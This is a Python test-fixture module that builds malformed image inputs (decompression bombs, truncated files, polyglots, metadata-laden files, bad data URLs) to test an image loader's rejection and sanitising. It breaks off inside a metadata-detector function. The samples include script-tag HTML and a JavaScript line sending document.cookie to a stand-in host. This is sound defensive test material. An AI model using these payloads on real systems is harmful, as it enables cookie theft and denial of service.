"""The malformed-input corpus of docs/reliability.md T-1, generated in code (no binary fixtures).

Each :class:`Case` holds either image bytes (``data``) for :func:`skingpt4.inputs.images.load_image` and the sandboxed
decoder, or a data-URL string (``data_url``) for the HTTP API. ``expect`` follows what ``images.py`` does: limits
50 MiB / 40 Mpx / 16,384 px longest side / 8 px shortest side, allowlist JPEG PNG WebP BMP TIFF, first frame of an
animation, truncation rejected, EXIF orientation applied and all metadata dropped. ``check`` (accepted cases only)
states what the normalised RGB result must look like where that matters.

The whole corpus builds in well under a second (the bombs are hand-made 1-bit PNGs compressed row by row).
"""

from __future__ import annotations

import base64
import binascii
import functools
import gzip
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
from PIL import Image, ImageCms, features

from skingpt4.inputs.images import DEFAULT_LIMITS, ImageRejected

RED, GREEN, BLUE, WHITE, BLACK = (255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255), (0, 0, 0)
CATEGORIES = (
    "bomb",
    "truncated",
    "wrong-type",
    "mode",
    "animated",
    "geometry",
    "metadata",
    "heic-avif",
    "polyglot",
    "base64",
)


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    data: bytes | None  # image bytes, for load_image / the sandbox
    data_url: str | None  # a data: URL string, for the HTTP API (then ``data`` is None)
    expect: str  # "accept" | "reject"
    note: str
    check: Callable[[Image.Image], None] | None = None  # for accepted cases: asserts on the normalised RGB image

    def __repr__(self) -> str:  # keep pytest ids and failure output short
        return f"Case({self.name!r}, {self.category!r}, {self.expect!r})"


# --- building blocks --------------------------------------------------------------------------------------------


def encode(img: Image.Image, fmt: str, **kwargs) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **kwargs)
    return buf.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_zero(width: int, height: int, bit_depth: int = 1, colour_type: int = 0, channels: int = 1) -> bytes:
    """A valid all-zero PNG built by hand, compressed row by row so a 14k x 14k 1-bit image stays ~24 KiB."""
    row = b"\x00" * (1 + (width * channels * bit_depth + 7) // 8)
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row) for _ in range(height)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return PNG_SIGNATURE + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_header_only(width: int, height: int) -> bytes:
    """IHDR claims width x height, IDAT holds 64 bytes: a size rejection proves the check ran before decoding."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_insert(png: bytes, *chunks: bytes) -> bytes:
    """Insert chunks right after IHDR (8-byte signature + 25-byte IHDR chunk)."""
    return png[:33] + b"".join(chunks) + png[33:]


def png_chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    out, pos = [], 8
    while pos + 8 <= len(png):
        length, kind = struct.unpack(">I4s", png[pos : pos + 8])
        out.append((kind, png[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return out


def png_without(png: bytes, kind: bytes) -> bytes:
    return PNG_SIGNATURE + b"".join(png_chunk(k, d) for k, d in png_chunks(png) if k != kind)


def jpeg_insert(jpeg: bytes, marker: int, payload: bytes) -> bytes:
    """Insert an APPn/COM segment right after SOI."""
    return jpeg[:2] + struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload + jpeg[2:]


def noise(size=(64, 48), seed=0) -> Image.Image:
    rng = np.random.default_rng(seed)
    return Image.fromarray(rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8), "RGB")


def quadrants(size=(48, 32)) -> Image.Image:
    """Red top-left, green top-right, blue bottom-left, white bottom-right: shows any flip or rotation."""
    w, h = size
    img = Image.new("RGB", size, WHITE)
    img.paste(RED, (0, 0, w // 2, h // 2))
    img.paste(GREEN, (w // 2, 0, w, h // 2))
    img.paste(BLUE, (0, h // 2, w // 2, h))
    return img


def tiff_chain(n_ifds: int, loop: bool = False) -> bytes:
    """A little-endian TIFF of ``n_ifds`` 8x8 grey pages sharing one strip; ``loop``: the last IFD points at IFD 0."""
    strip_at, first_ifd = 8, 8 + 64
    out = bytearray(b"II*\x00" + struct.pack("<I", first_ifd) + bytes(range(64)))
    tags = [
        (256, 3, 8),
        (257, 3, 8),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, strip_at),
        (278, 3, 8),
        (279, 4, 64),
    ]
    ifd_size = 2 + 12 * len(tags) + 4
    for i in range(n_ifds):
        here = first_ifd + i * ifd_size
        nxt = here + ifd_size if i < n_ifds - 1 else (first_ifd if loop else 0)
        out += struct.pack("<H", len(tags))
        for tag, kind, value in tags:
            out += struct.pack("<HHI", tag, kind, 1) + (
                struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
            )
        out += struct.pack("<I", nxt)
    return bytes(out)


def gif_many_frames(n: int) -> bytes:
    """A 16x16 GIF with ``n`` 1x1 frames, each the classic minimal LZW stream ``02 02 44 01 00``."""
    head = b"GIF89a" + struct.pack("<HHBBB", 16, 16, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = (
        b"\x21\xf9\x04\x00\x01\x00\x00\x00" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    )
    return head + loop + frame * n + b"\x3b"


def exif_app1_with_thumbnail(thumb: bytes) -> bytes:
    """APP1 'Exif' payload: IFD0 (Make) -> IFD1 with JPEGInterchangeFormat pointing at an embedded thumbnail."""
    make = b"Camera\x00\x00"
    ifd0_at = 8
    ifd1_at = ifd0_at + 2 + 12 + 4
    make_at = ifd1_at + 2 + 2 * 12 + 4
    thumb_at = make_at + len(make)
    entry = struct.Struct("<HHII")  # tag, type, count, value/offset
    ifd0 = struct.pack("<H", 1) + entry.pack(0x010F, 2, len(make), make_at) + struct.pack("<I", ifd1_at)
    ifd1 = struct.pack("<H", 2) + entry.pack(0x0201, 4, 1, thumb_at) + entry.pack(0x0202, 4, 1, len(thumb)) + b"\0" * 4
    return b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", ifd0_at) + ifd0 + ifd1 + make + thumb


def xmp_packet(extra: str = "") -> bytes:
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        f'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.0N"{extra}/></rdf:RDF></x:xmpmeta>'
        '<?xpacket end="w"?>'
    ).encode()


def gps_exif(orientation: int | None = None, comment_bytes: int = 0) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Phone 12"  # Model
    exif[0x0132] = "2024:05:01 10:00:00"  # DateTime
    if orientation is not None:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (51.0, 30.0, 0.0), "W", (0.0, 7.0, 0.0)
    if comment_bytes:
        exif.get_ifd(0x8769)[0x9286] = b"ASCII\x00\x00\x00" + b"x" * comment_bytes  # UserComment
    return exif


# --- checks on the normalised image ------------------------------------------------------------------------------


def solid(colour, tolerance: int = 0) -> Callable[[Image.Image], None]:
    def check(img: Image.Image) -> None:
        diff = np.abs(np.asarray(img, dtype=int) - np.array(colour)).max()
        assert diff <= tolerance, f"expected solid {colour} +-{tolerance}, max difference {diff}"

    return check


def pixels(size: tuple[int, int], points: dict, tolerance: int = 0) -> Callable[[Image.Image], None]:
    """Size must be ``size``; each (x, y) -> colour must match within ``tolerance``."""

    def check(img: Image.Image) -> None:
        assert img.size == size, f"size {img.size}, expected {size}"
        for xy, colour in points.items():
            got = img.getpixel(xy)
            assert max(abs(a - b) for a, b in zip(got, colour)) <= tolerance, f"pixel {xy} is {got}, expected {colour}"

    return check


def same_as(reference: Image.Image, tolerance: int = 0) -> Callable[[Image.Image], None]:
    expected = np.asarray(reference.convert("RGB"), dtype=int)

    def check(img: Image.Image) -> None:
        got = np.asarray(img, dtype=int)
        assert got.shape == expected.shape, f"shape {got.shape}, expected {expected.shape}"
        assert np.abs(got - expected).max() <= tolerance

    return check


# EXIF orientation -> what a viewer shows (EXIF 2.32 §4.6.5), as a transpose of the stored pixels.
ORIENTATION = {
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_270,  # stored sideways, shown turned 90 degrees clockwise
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_90,
}


def oriented(original: Image.Image, orientation: int) -> Callable[[Image.Image], None]:
    """Compare the centres of the four quadrants of the expected display image (JPEG: tolerance 40).
    Orientation 1 and values outside 1..8 leave the image as stored."""
    shown = original.transpose(ORIENTATION[orientation]) if orientation in ORIENTATION else original
    w, h = shown.size
    points = {(x, y): shown.getpixel((x, y)) for x in (w // 4, 3 * w // 4) for y in (h // 4, 3 * h // 4)}
    return pixels(shown.size, points, tolerance=40)


# --- the corpus --------------------------------------------------------------------------------------------------


def _bombs() -> list[Case]:
    animated_webp = encode(
        Image.new("RGB", (16, 16), RED),
        "WEBP",
        save_all=True,
        lossless=True,
        append_images=[Image.new("RGB", (16, 16), (i % 2 * 255, 0, 255)) for i in range(299)],
        duration=10,
    )
    return [
        Case("png-bomb-9k", "bomb", png_zero(9000, 9000), None, "reject", "81 Mpx in ~10 KiB: over the 40 Mpx cap"),
        Case("png-bomb-10k", "bomb", png_zero(10000, 10000), None, "reject", "100 Mpx: Pillow's bomb warning"),
        Case("png-bomb-14k", "bomb", png_zero(14000, 14000), None, "reject", "196 Mpx: Pillow's bomb error"),
        Case("gif-10000-frames", "bomb", gif_many_frames(10_000), None, "reject", "GIF is not allowed at all"),
        Case("webp-300-frames", "bomb", animated_webp, None, "accept", "only frame 0 is decoded", solid(RED)),
        Case(
            "png-huge-text-chunk",
            "bomb",
            png_insert(png_zero(16, 16, 8, 2, 3), png_chunk(b"tEXt", b"Comment\x00" + b"A" * 4_000_000)),
            None,
            "accept",
            "a 4 MB tEXt chunk: parsed (Pillow caps only the total, 64 MiB), then dropped",
            solid(BLACK),
        ),
        Case(
            "png-ztxt-bomb",
            "bomb",
            png_insert(
                png_zero(16, 16, 8, 2, 3), png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * 20_000_000, 9))
            ),
            None,
            "reject",
            "20 MB of text in 20 KiB: Pillow stops inflating at MAX_TEXT_CHUNK (1 MiB) and raises",
        ),
        Case("tiff-5000-ifds", "bomb", tiff_chain(5000), None, "accept", "first page only", _tiff_ramp_check()),
        Case("tiff-ifd-loop", "bomb", tiff_chain(3, loop=True), None, "accept", "IFD chain loops", _tiff_ramp_check()),
    ]


def _tiff_ramp_check() -> Callable[[Image.Image], None]:
    return same_as(Image.frombytes("L", (8, 8), bytes(range(64))))


def _truncated() -> list[Case]:
    jpeg = encode(noise((128, 96)), "JPEG", quality=90)
    png = encode(noise((64, 48), seed=1), "PNG")
    return [
        *(
            Case(
                f"jpeg-truncated-{p}pct",
                "truncated",
                jpeg[: len(jpeg) * p // 100],
                None,
                "reject",
                "never grey-filled",
            )
            for p in (10, 50, 90)
        ),
        Case("jpeg-no-eoi", "truncated", jpeg[:-2], None, "reject", "only the 2-byte EOI marker missing"),
        Case("png-truncated-in-idat", "truncated", png[: len(png) // 2], None, "reject", "half of IDAT"),
        Case("png-missing-idat", "truncated", png_without(png, b"IDAT"), None, "reject", "no pixel data at all"),
        Case(
            "png-missing-iend",
            "truncated",
            png_without(png, b"IEND"),
            None,
            "accept",
            "all pixels present, only the end marker missing: the pixels are exact",
            same_as(noise((64, 48), seed=1)),
        ),
        Case("webp-truncated-50pct", "truncated", _half(encode(noise(), "WEBP", quality=90)), None, "reject", ""),
        Case("tiff-truncated-50pct", "truncated", _half(encode(noise(), "TIFF")), None, "reject", "strip cut short"),
        Case("bmp-truncated-50pct", "truncated", _half(encode(noise(), "BMP")), None, "reject", ""),
    ]


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _wrong_type() -> list[Case]:
    zip_buf = io.BytesIO()
    with zipfile.ZipFile(zip_buf, "w") as zf:
        zf.writestr("photo.jpg", b"not really")
    reject = [
        ("html-as-image", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "HTML upload"),
        ("javascript-as-image", b"/* photo.png */\nfetch('https://example.invalid/?c=' + document.cookie);\n", ""),
        ("pdf-as-image", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", ""),
        ("svg-as-image", b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect/></svg>', ""),
        (
            "eps-as-image",
            b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n",
            "EPS would run Ghostscript",
        ),
        ("zip-as-image", zip_buf.getvalue(), ""),
        ("gzip-as-image", gzip.compress(b"<html></html>"), ""),
        ("empty", b"", "0 bytes"),
        ("one-byte", b"\xff", ""),
        ("qoi-image", encode(Image.new("RGB", (16, 16), RED), "QOI"), "a real image, not in the allowlist"),
        ("ico-image", encode(Image.new("RGB", (16, 16), RED), "ICO"), "a real image, not in the allowlist"),
        ("png-signature-then-garbage", PNG_SIGNATURE + b"garbage" * 20, ""),
    ]
    return [
        Case(
            "tiff-bytes-named-png",
            "wrong-type",
            encode(Image.new("RGB", (16, 16), GREEN), "TIFF"),
            None,
            "accept",
            "parser chosen from magic bytes, never from the name; TIFF is allowed",
            solid(GREEN),
        ),
        *(Case(name, "wrong-type", data, None, "reject", note) for name, data, note in reject),
    ]


def _modes() -> list[Case]:
    hidden = Image.new("RGBA", (16, 16), (255, 0, 0, 0))  # fully transparent red
    hidden.paste((0, 0, 255, 255), (0, 0, 8, 16))  # left half opaque blue
    la = Image.new("LA", (16, 16), (128, 0))
    pal = Image.new("P", (16, 16), 1)
    pal.putpalette([255, 255, 255, 255, 0, 0] + [0] * 762)
    nan_float = Image.fromarray(
        np.array([[np.nan, np.inf, -np.inf, 0.5]] * 8 + [[0.25] * 4] * 8, np.float32).repeat(2, 1)
    )
    grey16 = np.full((16, 16), 30000, np.uint16)
    grey16[:, :8] = 1000
    one_bit = Image.new("1", (16, 16), 0)
    one_bit.paste(1, (8, 0, 16, 16))
    return [
        Case(
            "rgba-hidden-alpha",
            "mode",
            encode(hidden, "PNG"),
            None,
            "accept",
            "transparent red must not show: composited over white",
            pixels((16, 16), {(2, 2): BLUE, (12, 2): WHITE}),
        ),
        Case("la-transparent", "mode", encode(la, "PNG"), None, "accept", "transparent grey -> white", solid(WHITE)),
        Case(
            "p-with-transparency",
            "mode",
            encode(pal, "PNG", transparency=1),
            None,
            "accept",
            "transparent palette entry (red) -> white",
            solid(WHITE),
        ),
        Case(
            "i16-png",
            "mode",
            encode(Image.new("I;16", (16, 16), 30000), "PNG"),
            None,
            "accept",
            "16-bit 30000/65535 -> 117, not clipped to white",
            solid((117, 117, 117)),
        ),
        Case(
            "i16-png-trns",
            "mode",
            encode(Image.fromarray(grey16), "PNG", transparency=30000),
            None,
            "accept",
            "16-bit grey with a tRNS colour: value 30000 is transparent -> white, like P/L/RGB with tRNS; 1000 -> 4",
            pixels((16, 16), {(2, 2): (4, 4, 4), (12, 2): WHITE}),
        ),
        Case(
            "i16b-tiff",
            "mode",
            encode(Image.new("I;16B", (16, 16), 30000), "TIFF"),
            None,
            "accept",
            "",
            solid((117,) * 3),
        ),
        Case(
            "i32-tiff",
            "mode",
            encode(Image.new("I", (16, 16), 30000), "TIFF"),
            None,
            "accept",
            "mode I is treated as 16-bit data",
            solid((117, 117, 117)),
        ),
        Case(
            "f-tiff",
            "mode",
            encode(Image.new("F", (16, 16), 0.5), "TIFF"),
            None,
            "accept",
            "0.5 -> 128",
            solid((128,) * 3),
        ),
        Case(
            "f-tiff-nan-inf",
            "mode",
            encode(nan_float, "TIFF"),
            None,
            "accept",
            "NaN -> 0, +inf -> 255, -inf -> 0",
            pixels((8, 16), {(0, 0): BLACK, (2, 0): WHITE, (4, 0): BLACK, (6, 0): (128,) * 3, (0, 12): (64,) * 3}),
        ),
        Case(
            "cmyk-jpeg",
            "mode",
            encode(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "JPEG", quality=95),
            None,
            "accept",
            "cyan/magenta/yellow/black -> RGB (no ICC)",
            solid(RED, tolerance=8),
        ),
        Case(
            "cmyk-tiff",
            "mode",
            encode(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "TIFF"),
            None,
            "accept",
            "",
            solid(RED),
        ),
        Case(
            "one-bit-png",
            "mode",
            encode(one_bit, "PNG"),
            None,
            "accept",
            "",
            pixels((16, 16), {(0, 0): BLACK, (15, 15): WHITE}),
        ),
        Case(
            "one-bit-tiff-g4",
            "mode",
            encode(one_bit, "TIFF", compression="group4"),
            None,
            "accept",
            "fax",
            pixels((16, 16), {(0, 0): BLACK, (15, 15): WHITE}),
        ),
        Case(
            "rgba-webp-transparent",
            "mode",
            encode(hidden, "WEBP", lossless=True, exact=True),
            None,
            "accept",
            "",
            pixels((16, 16), {(2, 2): BLUE, (12, 2): WHITE}),
        ),
    ]


def _animated() -> list[Case]:
    frames = [Image.new("RGB", (16, 16), c) for c in (RED, GREEN, BLUE)]
    kw = {"save_all": True, "append_images": frames[1:], "duration": 100, "loop": 0}
    return [
        Case("gif-animated", "animated", encode(frames[0], "GIF", **kw), None, "reject", "GIF is not allowed"),
        Case("apng", "animated", encode(frames[0], "PNG", **kw), None, "accept", "frame 0 (red)", solid(RED)),
        Case(
            "webp-animated",
            "animated",
            encode(frames[0], "WEBP", lossless=True, **kw),
            None,
            "accept",
            "frame 0 (red)",
            solid(RED),
        ),
        Case(
            "tiff-multipage",
            "animated",
            encode(frames[0], "TIFF", save_all=True, append_images=frames[1:]),
            None,
            "accept",
            "page 0 (red)",
            solid(RED),
        ),
    ]


def _geometry() -> list[Case]:
    limit = DEFAULT_LIMITS.max_side
    return [
        Case(
            "1x1", "geometry", encode(Image.new("RGB", (1, 1), RED), "PNG"), None, "reject", "below the 8 px minimum"
        ),
        Case("1x4000", "geometry", encode(Image.new("RGB", (1, 4000), RED), "PNG"), None, "reject", ""),
        Case("4000x1", "geometry", encode(Image.new("RGB", (4000, 1), RED), "PNG"), None, "reject", ""),
        Case(
            "8x8", "geometry", encode(Image.new("RGB", (8, 8), RED), "PNG"), None, "accept", "the minimum", solid(RED)
        ),
        Case("8x4000", "geometry", png_zero(8, 4000), None, "accept", "a 500:1 strip is legal", pixels((8, 4000), {})),
        Case(
            "png-over-side-cap",
            "geometry",
            png_header_only(limit + 1, 8),
            None,
            "reject",
            "131k pixels, under the pixel cap, but one side over 16,384 px; rejected before decoding",
        ),
        Case("png-zero-width", "geometry", png_header_only(0, 16), None, "reject", "IHDR declares width 0"),
        Case("png-zero-height", "geometry", png_header_only(16, 0), None, "reject", "IHDR declares height 0"),
        Case("png-declared-2^31", "geometry", png_header_only(2**31 - 1, 2**31 - 1), None, "reject", "absurd header"),
        Case(
            "bmp-top-down",
            "geometry",
            _bmp_top_down(),
            None,
            "accept",
            "negative height = top-down rows",
            pixels((8, 8), {(0, 0): RED, (0, 7): BLUE}),
        ),
    ]


def _bmp_top_down() -> bytes:
    """An 8x8 24-bit BMP with negative height: first stored row is the top (red), the rest blue."""
    rows = [bytes([0, 0, 255] * 8)] + [bytes([255, 0, 0] * 8)] * 7  # BGR
    pixels_ = b"".join(rows)
    info = struct.pack("<IiiHHIIiiII", 40, 8, -8, 1, 24, 0, len(pixels_), 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + 40 + len(pixels_), 0, 0, 54) + info + pixels_


def _metadata() -> list[Case]:
    quad = quadrants()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    red = Image.new("RGB", (32, 32), RED)
    thumb = encode(Image.new("RGB", (16, 16), GREEN), "JPEG")
    text = [
        png_chunk(b"tEXt", b"Author\x00Jane Doe, MRN 123456"),
        png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"patient: Smith")),
        png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp_packet()),
        png_chunk(b"tIME", struct.pack(">HBBBBB", 2024, 5, 1, 10, 0, 0)),
    ]
    return [
        Case(
            "jpeg-gps-exif",
            "metadata",
            encode(red, "JPEG", exif=gps_exif(), quality=95),
            None,
            "accept",
            "GPS, Make, Model, DateTime all dropped",
            solid(RED, tolerance=4),
        ),
        Case(
            "jpeg-huge-exif",
            "metadata",
            encode(red, "JPEG", exif=gps_exif(comment_bytes=60_000), quality=95),
            None,
            "accept",
            "a 60 KB UserComment (APP1 holds at most 64 KiB)",
            solid(RED, tolerance=4),
        ),
        Case(
            "png-huge-exif",
            "metadata",
            encode(red, "PNG", exif=gps_exif(comment_bytes=2_000_000)),
            None,
            "accept",
            "a 2 MB eXIf chunk",
            solid(RED),
        ),
        *(
            Case(
                f"jpeg-orientation-{o}",
                "metadata",
                encode(quad, "JPEG", exif=gps_exif(o), quality=95),
                None,
                "accept",
                "orientation applied before EXIF is dropped",
                oriented(quad, o),
            )
            for o in range(2, 9)
        ),
        Case(
            "png-orientation-6",
            "metadata",
            encode(quad, "PNG", exif=gps_exif(6)),
            None,
            "accept",
            "eXIf chunk orientation, lossless",
            same_as(quad.transpose(ORIENTATION[6])),
        ),
        Case(
            "jpeg-orientation-invalid-9",
            "metadata",
            encode(quad, "JPEG", exif=gps_exif(9), quality=95),
            None,
            "accept",
            "out-of-range orientation is ignored",
            oriented(quad, 9),
        ),
        Case(
            "jpeg-embedded-thumbnail",
            "metadata",
            jpeg_insert(encode(red, "JPEG", quality=95), 0xE1, exif_app1_with_thumbnail(thumb)),
            None,
            "accept",
            "IFD1 thumbnail (green) is neither shown nor kept",
            solid(RED, tolerance=4),
        ),
        Case(
            "jpeg-xmp",
            "metadata",
            jpeg_insert(encode(red, "JPEG", quality=95), 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp_packet()),
            None,
            "accept",
            "",
            solid(RED, tolerance=4),
        ),
        Case(
            "jpeg-comment",
            "metadata",
            encode(red, "JPEG", quality=95, comment=b"patient Jane Doe"),
            None,
            "accept",
            "COM segment",
            solid(RED, tolerance=4),
        ),
        Case(
            "jpeg-icc",
            "metadata",
            encode(red, "JPEG", quality=95, icc_profile=icc),
            None,
            "accept",
            "ICC dropped, pixels taken as sRGB",
            solid(RED, tolerance=4),
        ),
        Case(
            "png-icc-and-text",
            "metadata",
            png_insert(encode(red, "PNG", icc_profile=icc), *text),
            None,
            "accept",
            "iCCP, tEXt, zTXt, iTXt (XMP), tIME",
            solid(RED),
        ),
        Case(
            "webp-exif-icc-xmp",
            "metadata",
            encode(red, "WEBP", lossless=True, exif=gps_exif(), icc_profile=icc, xmp=xmp_packet()),
            None,
            "accept",
            "",
            solid(RED),
        ),
        Case("tiff-gps-exif", "metadata", encode(red, "TIFF", exif=gps_exif()), None, "accept", "", solid(RED)),
    ]


def _heic_avif() -> list[Case]:
    def ftyp(brand: bytes) -> bytes:
        box = b"ftyp" + brand + b"\x00\x00\x00\x00" + b"mif1" + brand
        return struct.pack(">I", len(box) + 4) + box + b"\x00\x00\x00\x08free" + b"\x00" * 64

    cases = [
        Case("heic-ftyp", "heic-avif", ftyp(b"heic"), None, "reject", "iPhone HEIC: no decoder, clear message"),
        Case("heif-mif1-ftyp", "heic-avif", ftyp(b"mif1"), None, "reject", ""),
        Case("avif-ftyp", "heic-avif", ftyp(b"avif"), None, "reject", "AVIF is not in the allowlist"),
    ]
    if features.check("avif"):  # Pillow 11.3+ wheels decode AVIF; the allowlist must still refuse it
        real = encode(Image.new("RGB", (16, 16), RED), "AVIF")
        cases.append(Case("avif-real", "heic-avif", real, None, "reject", "a real AVIF Pillow could decode"))
    return cases


def _polyglot() -> list[Case]:
    zip_buf = io.BytesIO()
    with zipfile.ZipFile(zip_buf, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    jpeg = encode(Image.new("RGB", (16, 16), RED), "JPEG", quality=95)
    png = encode(Image.new("RGB", (16, 16), BLUE), "PNG")
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    return [
        Case(
            "jpeg-plus-zip",
            "polyglot",
            jpeg + zip_buf.getvalue(),
            None,
            "accept",
            "appended zip is not kept",
            solid(RED, tolerance=4),
        ),
        Case("png-plus-html", "polyglot", png + html, None, "accept", "bytes after IEND are not kept", solid(BLUE)),
        Case(
            "png-html-in-text-chunk",
            "polyglot",
            png_insert(png, png_chunk(b"tEXt", b"Comment\x00" + html)),
            None,
            "accept",
            "",
            solid(BLUE),
        ),
        Case("html-then-png", "polyglot", html + png, None, "reject", "magic bytes are not at offset 0"),
        Case("zip-containing-png", "polyglot", _zip_with(png), None, "reject", "a zip is not an image"),
    ]


def _zip_with(data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("image.png", data)
    return buf.getvalue()


def _data_urls() -> list[Case]:
    png = encode(Image.new("RGB", (16, 16), GREEN), "PNG")
    png += b"\x00" * ((1 - len(png)) % 3)  # trailing bytes are ignored; this length makes the base64 end in "=="
    b64 = base64.b64encode(png).decode()
    assert b64.endswith("==")
    over = 4 * (DEFAULT_LIMITS.max_bytes // 3 + 2)  # base64 characters for one more than max_bytes
    return [
        Case("data-url-valid-png", "base64", None, f"data:image/png;base64,{b64}", "accept", "baseline", solid(GREEN)),
        Case(
            "data-url-bad-padding",
            "base64",
            None,
            f"data:image/png;base64,{b64[:-2]}A",
            "reject",
            "'==' replaced by one character: length not a multiple of 4",
        ),
        Case(
            "data-url-missing-padding",
            "base64",
            None,
            f"data:image/png;base64,{b64[:-2]}",
            "reject",
            "strict decoding: padding is required",
        ),
        Case(
            "data-url-png-labelled-jpeg",
            "base64",
            None,
            f"data:image/jpeg;base64,{b64}",
            "accept",
            "an image/* MIME that does not match: the content decides, as for file names",
            solid(GREEN),
        ),
        Case(
            "data-url-text-html-mime",
            "base64",
            None,
            f"data:text/html;base64,{b64}",
            "reject",
            "valid PNG bytes, but not an image/* MIME",
        ),
        Case(
            "data-url-non-base64-chars",
            "base64",
            None,
            f"data:image/png;base64,{b64[:40]}*$%{b64[40:]}",
            "reject",
            "characters outside the base64 alphabet",
        ),
        Case(
            "data-url-over-long",
            "base64",
            None,
            "data:image/png;base64," + "A" * over,
            "reject",
            f"decodes to more than {DEFAULT_LIMITS.max_bytes:,} bytes: refused from the length alone",
        ),
        Case(
            "data-url-not-base64",
            "base64",
            None,
            "data:image/png," + png.decode("latin-1"),
            "reject",
            "no ;base64 marker",
        ),
        Case("data-url-no-scheme", "base64", None, b64, "reject", "bare base64 without data: prefix"),
    ]


_DATA_URL = re.compile(r"data:(?P<mime>[A-Za-z0-9!#$&^_.+-]+/[A-Za-z0-9!#$&^_.+-]+);base64,(?P<payload>.*)", re.S)


def decode_data_url(url: str, max_bytes: int = DEFAULT_LIMITS.max_bytes) -> bytes:
    """The rule the ``base64`` expectations assume: ``data:image/<any>;base64,<strict base64>``, size checked
    from the length before decoding. Raises ImageRejected with one line. (A reference for the HTTP API.)"""
    m = _DATA_URL.match(url[:200])  # the header is short; the payload is not run through a regex
    if m is None:
        raise ImageRejected("not a base64 data URL (expected data:image/...;base64,...)")
    if not m["mime"].lower().startswith("image/"):
        raise ImageRejected(f"data URL type {m['mime'][:40]!r} is not an image type")
    payload = url[url.index(",") + 1 :]
    if len(payload) > 4 * -(-max_bytes // 3):
        raise ImageRejected(f"image too large: over the {max_bytes:,}-byte limit")
    try:
        return base64.b64decode(payload, validate=True)
    except (binascii.Error, ValueError):
        raise ImageRejected("invalid base64 in data URL") from None


@functools.cache
def all_cases() -> tuple[Case, ...]:
    cases = (
        _bombs()
        + _truncated()
        + _wrong_type()
        + _modes()
        + _animated()
        + _geometry()
        + _metadata()
        + _heic_avif()
        + _polyglot()
        + _data_urls()
    )
    names = [c.name for c in cases]
    assert len(set(names)) == len(names), "case names must be unique"
    assert {c.category for c in cases} == set(CATEGORIES)
    return tuple(cases)


def image_cases() -> list[Case]:
    return [c for c in all_cases() if c.data is not None]


def data_url_cases() -> list[Case]:
    return [c for c in all_cases() if c.data_url is not None]


def __getattr__(name: str):  # CASES is built on first use, not on import
    if name == "CASES":
        return list(all_cases())
    raise AttributeError(name)


# --- metadata detector for re-encoded output ---------------------------------------------------------------------

_PNG_PIXEL_CHUNKS = {b"IHDR", b"PLTE", b"IDAT", b"IEND", b"tRNS"}


def has_metadata(data: bytes) -> bool:
    """True if PNG or JPEG bytes carry anything beyond pixels: EXIF, XMP, ICC, text, time, comments, trailing bytes.

    PNG: any chunk other than IHDR/PLTE/IDAT/IEND/tRNS, or bytes after IEND. JPEG: any APPn other than a bare JFIF
    APP0, any COM, or bytes after EOI (baseline files from Pillow are scanned segment by segment up to SOS).
    """
    if data.startswith(PNG_SIGNATURE):
